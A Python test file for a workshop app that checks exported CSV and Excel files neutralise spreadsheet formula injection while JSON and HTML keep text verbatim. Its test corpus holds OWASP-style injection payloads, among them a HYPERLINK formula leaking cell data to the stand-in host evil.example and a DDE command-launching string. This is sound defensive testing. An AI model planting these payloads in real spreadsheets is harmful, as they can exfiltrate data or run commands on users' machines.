"""Issue 11: no typed text becomes a live spreadsheet formula in any exported file.

The OWASP "CSV injection" corpus is typed where participants and the facilitator type text:
a note, a theme name, a summary point, a method name, a role name and the workshop's name.
Then the bundle is exported and every file is read back with its own reader:

1. in every CSV cell a text that a spreadsheet would run (leading = + - @ tab CR) carries
   OWASP's leading apostrophe, and nothing else is changed;
2. in the workbook every text is a string cell (never a formula element), flagged
   `quotePrefix` when it looks like a formula, and reads back as the exact text typed;
3. JSON and HTML keep the text as typed (they are not spreadsheets).
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import secrets
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from core import (
    editing,
    export,
    export_signing,
    export_tables,
    note_moderation,
    note_summary,
    note_themes,
    notes,
)
from core.bilingual import Bilingual
from core.cards import issue_cards
from core.casting import submit_ballot
from core.closing import close_voting
from core.console import move_to
from core.console_access import unlock_console
from core.db import Database
from core.domain import Stage, StagePosition
from core.export_formats import export_csv, export_html, export_json, export_xlsx
from core.instance import Admin
from core.reveal import reveal
from core.templates import available_templates
from core.workshops import create_workshop, get_workshop
from tests.conftest import BACKENDS, PgSchema, require_postgres

PASS = "correct horse battery"
CORPUS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"点这里")',
    "=1+1",
    "+1+1 加号开头",
    "-2+3 减号开头",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
)
"""Each text as typed; tab and CR never survive input cleaning (text.normalize_text), so
they are covered by the unit test of `neutralise_csv_text` below."""


def test_a_text_starting_with_a_formula_trigger_gets_a_leading_apostrophe_in_csv() -> None:
    for trigger in ("=", "+", "-", "@", "\t", "\r"):
        assert export_csv.neutralise_csv_text(f"{trigger}1+1") == f"'{trigger}1+1"
    assert export_csv.neutralise_csv_text("普通的话 =1") == "普通的话 =1"
    assert export_csv.neutralise_csv_text("'=1") == "'=1"  # already text for a spreadsheet


@pytest.fixture(scope="module", params=BACKENDS)
def bundle(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Path]:
    tmp = tmp_path_factory.mktemp(f"inject-{request.param}")
    schema = None
    if request.param == "sqlite":
        db = Database.connect(f"sqlite:///{tmp / 'inject.db'}")
    else:
        url = require_postgres()
        schema = PgSchema(url)
        db = Database.connect(url, **schema.engine_kwargs())  # type: ignore[arg-type]
    secret_key = secrets.token_bytes(32)
    code = create_workshop(
        Admin.trusted(db), available_templates()["default"], CORPUS[3], PASS, anonymity_k=3
    )
    unlocked = unlock_console(db, secret_key, code, PASS)
    injected_method = editing.add_method(unlocked, Bilingual(CORPUS[0], CORPUS[5]))
    editing.set_roles(unlocked, [Bilingual(CORPUS[4], CORPUS[1])])
    move_to(unlocked, StagePosition(Stage.QUESTIONS, 0))
    for text in CORPUS:
        notes.post_note(db, code, text, 0)
    note_moderation.flush_pending(
        unlocked, 0
    )  # the remainder below k, released as the facilitator may
    note_moderation.flush_pending(unlocked, 0)
    wall = {n.text: n.id for n in notes.wall(db, code, 0, include_hidden=True)}
    theme = note_themes.create_theme(unlocked, 0, CORPUS[1])
    note_themes.assign_note(unlocked, wall[CORPUS[0]], theme)
    note_summary.set_summary_points(unlocked, 0, [CORPUS[2], CORPUS[4]])
    move_to(unlocked, StagePosition(Stage.VOTING))
    w = get_workshop(db, code)
    role = w.roles[0].key
    for card in issue_cards(unlocked, 4):
        submit_ballot(
            db, secret_key, code, card, (injected_method, w.method_keys[0]), role, client_key="t"
        )
    close_voting(unlocked)
    reveal(unlocked, PASS)
    key = export_signing.load_or_create_signing_key(export_signing.signing_key_path(tmp))
    yield export.build_bundle(db, code, tmp / "out", "en", key)
    db.dispose()
    if schema is not None:
        schema.drop()


def test_every_csv_cell_that_a_spreadsheet_would_run_is_neutralised(bundle: Path) -> None:
    seen: set[str] = set()
    for path in sorted(bundle.glob("*.csv")):
        rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
        for row in rows:
            for cell in row:
                assert not export_tables.is_formula_like(cell), (
                    f"{path.name}: live formula {cell!r}"
                )
                if cell.startswith("'"):
                    seen.add(cell[1:])
    # Every corpus text reached some CSV (notes, themes, method and role names, summaries).
    assert set(CORPUS) <= seen, set(CORPUS) - seen


def test_every_workbook_text_is_a_string_cell_never_a_formula(bundle: Path) -> None:
    from openpyxl import load_workbook

    xlsx = bundle / export_xlsx.RESULTS_XLSX
    with zipfile.ZipFile(xlsx) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(member)), member
    texts: set[str] = set()
    for sheet in load_workbook(xlsx):
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    if export_tables.is_formula_like(cell.value):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate)
                    texts.add(cell.value)
    # The exact text typed, with no apostrophe added: the quote-prefix flag does that job.
    for text in CORPUS:
        assert any(text in value for value in texts), text


def test_json_and_html_keep_the_text_as_typed(bundle: Path) -> None:
    document = json.dumps(json.loads((bundle / export_json.RESULTS_JSON).read_text("utf-8")))
    page = html.unescape((bundle / export_html.REPORT_HTML).read_text("utf-8"))
    for text in CORPUS:
        assert json.dumps(text)[1:-1] in document, text
        assert text in page, text
